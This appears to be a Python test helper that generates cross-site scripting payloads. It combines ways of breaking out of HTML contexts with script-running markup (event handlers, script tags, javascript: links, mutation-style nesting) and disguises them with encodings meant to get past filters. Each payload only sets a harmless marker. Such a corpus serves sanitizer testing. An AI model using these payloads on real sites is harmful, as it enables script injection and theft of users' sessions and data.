"""Texts that would run if a page took them for markup, generated: ways out of a context times things that run.

What does NOT belong here: where they are planted, how they are judged (the tests).
"""

from __future__ import annotations

import html
from itertools import product
from urllib.parse import quote

RUN = "window.hostile_code_ran=1"

#: How a text leaves the place it stands in.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</style>",
    "</title>",
    "</text></svg>",
    "</td></table>",
    '" ',
    "' ",
)
#: What runs once it is out.
RUNNING = (
    "<script>{run}</script>",
    "<img src=x: onerror={run}>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    '<iframe srcdoc="<script>parent.{run}</script>">',
    "<video><source onerror={run}></video>",
    "<style>@import'x:';</style><style onload={run}></style>",
    "<math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}>",
    "onmouseover={run} autofocus tabindex=0 onfocus={run} x=",
    '<a href="javascript:{run}" id=content autofocus onfocus={run}>x</a>',
)


def _upper(text: str) -> str:
    return text.swapcase().replace(RUN.swapcase(), RUN)


#: The same text as filters are got around.
DISGUISES = {
    "plain": str,
    "other case": _upper,
    "entities": html.escape,
    "numbered entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "percent": quote,
    "escapes of JavaScript": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "full width": lambda text: text.translate({ord("<"): "＜", ord(">"): "＞", ord('"'): "＂"}),
    "null bytes": lambda text: text.replace("<s", "<\x00s").replace("<i", "<i\x00"),
    "line breaks": lambda text: text.replace(" ", "\n").replace("<", "\r\n<"),
    "right to left": lambda text: f"\u202e{text}\u202c",
    "half a surrogate's neighbour": lambda text: f"\ufffe{text}\U0001f600",
    "a template": lambda text: "{{ " + repr(text) + " | safe }}{% raw %}" + text,
}


def payloads() -> list[str]:
    """Every way out with every other running text, and every disguise of three of them."""
    pairs = product(enumerate(WAYS_OUT), enumerate(RUNNING))
    plain = [way + text.format(run=RUN) for (i, way), (j, text) in pairs if (i + j) % 2 == 0]
    disguised = [
        disguise(way + text.format(run=RUN))
        for disguise, (way, text) in product(DISGUISES.values(), zip(WAYS_OUT[:3], RUNNING[:3], strict=True))
    ]
    return list(dict.fromkeys([*plain, *disguised]))
